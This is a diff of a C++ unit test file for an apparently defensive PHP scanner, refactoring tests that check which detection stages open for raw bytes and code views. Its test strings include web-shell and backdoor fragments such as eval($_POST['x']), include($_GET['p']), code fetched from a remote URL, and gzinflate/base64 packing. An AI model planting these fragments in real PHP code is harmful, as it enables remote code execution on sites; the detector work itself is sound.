@@ -1,23 +1,29 @@
-// Which stages the raw bytes of a file open: the table, and the words that rules bring along.
+// Which stages the raw bytes and the code view of a file open.
 #include "rules/triggers.h"
 
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
-#include "rules/clauses.h"
 #include "rules/rule_reader.h"
 #include "unit/rules/rule_dir.h"
 
 namespace backscan::rules::testing {
 namespace {
 
-Triggers triggers_of(std::string_view raw, const std::string& when = "{ raw: never_there }") {
+Signs signs_of(ViewKind view, std::string_view text) {
   RuleDir dir;
-  dir.add("mailer/x", when);
+  dir.add("mailer/x", "{ raw: never_there }");
   const RuleSet rules = dir.load();
   Matcher matcher(rules);
-  matcher.begin("a.php", raw.size());
-  return matcher.scan_raw(raw);
+  matcher.begin("a.php", text.size());
+  return matcher.scan({.kind = view, .text = text});
+}
+
+Triggers of_raw(std::string_view raw) {
+  return stages_of(signs_of(ViewKind::kRaw, raw));
+}
+Triggers of_code(std::string_view code) {
+  return stages_of(kSignTag | signs_of(ViewKind::kCode, code));
 }
 
 TEST(Triggers, ThePatternsOfTheTableAreSound) {
@@ -26,85 +32,43 @@ TEST(Triggers, ThePatternsOfTheTableAreSound) {
 }
 
 TEST(Triggers, SeeEveryOpenTag) {
-  for (const std::string_view raw : {"<?php x", "<?PHP\n", "<?= 1", "<?\nx", "<? x", "<?@x();", "<?$x=1;", "<?eval($x);", "<%= 1",
-                                     "<script language=\"php\">", "<SCRIPT LANGUAGE = 'PHP'>"})
-    EXPECT_TRUE(triggers_of(raw).php_tag) << raw;
+  for (const std::string_view raw :
+       {"<?php x", "<?PHP\n", "<?= 1", "<?\nx", "<? x", "<?@x();", "<?$x=1;", "<?eval($x);",
+        "<%= 1", "<script language=\"php\">", "<SCRIPT LANGUAGE = 'PHP'>"})
+    EXPECT_TRUE(of_raw(raw).php_tag) << raw;
   for (const std::string_view raw : {"<?xml version", "plain", "<script>"})
-    EXPECT_FALSE(triggers_of(raw).php_tag) << raw;
+    EXPECT_FALSE(of_raw(raw).php_tag) << raw;
 }
 
 TEST(Triggers, PlainCodeOpensNothing) {
-  const Triggers stages = triggers_of(
-      "<?php\nnamespace App;\nclass Model { public function get($id) { return $this->find($id); } "
-      "}\n"
-      "echo 'a sentence ' . 'and another';\n");
-  EXPECT_TRUE(stages.php_tag);
-  EXPECT_FALSE(stages.views);
+  const Triggers stages = of_code(
+      "<?namespace app;class model{function get($id){return$this->find($id);}}echo'mail (a letter)';"
+      "$this->exec($_POST['x']);$m->mail;$pdo->exec($sql);foo::system($x);");
   EXPECT_FALSE(stages.sinks);
   EXPECT_FALSE(stages.packed);
 }
 
 TEST(Triggers, MailAndRequestDrivenCodeOpenTheFlow) {
-  for (const std::string_view raw :
-       {"<?php mail($a, $b, $c);", "<?php @MAIL ($a);", "<?php $m->addAddress($x);",
-        "<?php $f = fsockopen($h, 25);", "<?php eval($_POST['x']);",
-        "<?php $_GET['f']($_GET['x']);", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $p);",
-        "<?php include($_GET['p']);", "<?php $f = 'mail'; $f($a);",
-        "<?php eval(file_get_contents('https://a.example/b'));",
-        "<?php $url = \"http://a.example/b\"; copy($url, 'c.php');",
-        "<?php fwrite($f, base64_decode($x));",
-        "<?php call_user_func_array(assert, array($_POST['x']));",
-        "<?php array_intersect_ukey($a, $_POST, $f);", "<?php $a = $$b; $f($a['x']);"})
-    EXPECT_TRUE(triggers_of(raw).sinks) << raw;
+  for (const std::string_view code :
+       {"<?mail($a,$b,$c);", "<?$m->addaddress($x);", "<?$f=fsockopen($h,25);",
+        "<?eval($_POST['x']);", "<?$_GET['f']($_GET['x']);",
+        "<?move_uploaded_file($_FILES['f']['tmp_name'],$p);", "<?include($_GET['p']);",
+        "<?$f='mail';$f($a);", "<?eval(file_get_contents('https://a.example/b'));",
+        "<?$url='http://a.example/b';copy($url,'c.php');", "<?fwrite($f,base64_decode($x));",
+        "<?call_user_func_array(assert,array($_POST['x']));",
+        "<?array_intersect_ukey($a,$_POST,$f);", "<?$a=$$b;$f($a['x']);",
+        "<?if($a>mail($b,$c,$d))exit;"})
+    EXPECT_TRUE(of_code(code).sinks) << code;
 }
 
 TEST(Triggers, PackersOpenTheUnpacker) {
-  for (const std::string_view raw :
-       {"<?php eval(gzinflate(base64_decode('x')));", "<?php $a=\"\\x62\\x61\"; $a($b); eval($c);",
-        "<?php goto a1;", "<?php $f = fopen(__FILE__, 'r');", "<?php $\xd0\xb0 = 1;",
-        "<?php $GLOBALS['a']['b'](1);", "<?php $x = 'ba'.'se64_decode'; assert($x('..'));",
-        "<?php $f = str_replace('q', '', 'cqreatqe_funqction');"})
-    EXPECT_TRUE(triggers_of(raw).packed) << raw;
-  EXPECT_TRUE(triggers_of("<?php $x = '" + std::string(300, 'Q') + "';").packed);
-}
-
-TEST(Triggers, HiddenWordsOpenTheViews) {
-  for (const std::string_view raw :
-       {"<?php $a = 'ma'.'il';", "<?php $a = \"ma\" . 'il';", "<?php $a = 'ma' ./* x */ 'il';",
-        "<?php $a = \"m\\x61il\";", "<?php $a = \"m\\141il\";", "<?php $a = chr(109);",
-        "<?php ${'GLO' . $x} = 1;", "<?php $$a = 1;", "<?php $a = 'AB' ^ 'cd';",
-        "<?php $a = $s[3].$s[5];", "<?php $a = \"\\u{6d}ail\";", "<?php $a = ('ma').('il');"})
-    EXPECT_TRUE(triggers_of(raw).views) << raw;
-}
-
-TEST(Triggers, RulesBringTheirOwnWords) {
-  const std::string when =
-      "{ all: [ { code: 'set_priority\\(' }, { any: [ { text: 'X-Letter' }, "
-      "{ code: '\\$roster\\b' } ] } ] }";
-  EXPECT_TRUE(triggers_of("<?php SET_priority /* */ ($x); $h = 'x-letter: 1';", when).views);
-  EXPECT_TRUE(triggers_of("<?php set_priority($roster);", when).views);
-  EXPECT_FALSE(triggers_of("<?php set_priority($x);", when).views);
-  EXPECT_FALSE(triggers_of("<?php $x = 'X-Letter'; $roster = 1;", when).views);
-  EXPECT_FALSE(triggers_of("set_priority($roster);", when).views) << "no PHP, no views";
-}
-
-TEST(Triggers, PatternsOverViewsAreFoundInTheSource) {
-  const auto opens = [](std::string_view raw, const std::string& pattern) {
-    return triggers_of(raw, "{ code: '" + pattern + "' }").views;
-  };
-  EXPECT_TRUE(opens("<?php Set_Up ( \"Rcpt to:\" );", "\\bset_up\\(''(?i:rcpt) to:''\\)"));
-  EXPECT_TRUE(opens("<?php set_up(\"a {$roster['x']} b\");", "set_up\\(''a ''\\.\\$roster\\[''x''\\]"));
-  EXPECT_TRUE(opens("<?php set_up(\"${roster}\");", "set_up\\(\\$roster"));
-  EXPECT_TRUE(opens("<?php return $roster;", "\\breturn\\$roster"));
-  EXPECT_TRUE(opens("<?php $x = \"To\\nX-Letter: 1\";", "\\bX-Letter: \\d"));
-  EXPECT_TRUE(opens("<?php set_up(/* ; */ $roster);", "set_up\\(\\$roster"));
-  EXPECT_TRUE(opens("<?php set_up(<<<EOT\nx\nEOT\n, $roster);", "set_up\\(''x'',\\$roster"));
-  EXPECT_FALSE(opens("<?php $roster = set_up;", "set_up\\(\\$roster"));
-}
-
-TEST(Triggers, NotAsksForNothing) {
-  const std::string when = "{ all: [ { code: 'set_priority' }, { not: { code: 'x_letter' } } ] }";
-  EXPECT_TRUE(triggers_of("<?php set_priority(1);", when).views);
+  for (const std::string_view code :
+       {"<?eval(gzinflate(base64_decode('x')));", "<?$a='base64_decode';assert($a('x'));",
+        "<?goto a1;", "<?$f=fopen(__file__,'r');", "<?$\xd0\xb0=1;", "<?$GLOBALS['a']['b'](1);",
+        "<?$f=str_replace('q','','cqreatqe_funqction');"})
+    EXPECT_TRUE(of_code(code).packed) << code;
+  EXPECT_TRUE(of_code("<?$x='" + std::string(300, 'Q') + "';").packed);
+  EXPECT_TRUE(stages_of(kSignTag | signs_of(ViewKind::kRaw, R"(\x61\x62\x63\x64\x65\x66\x61\x62\x63\x64\x65\x66)")).packed);
 }
 
 }  // namespace
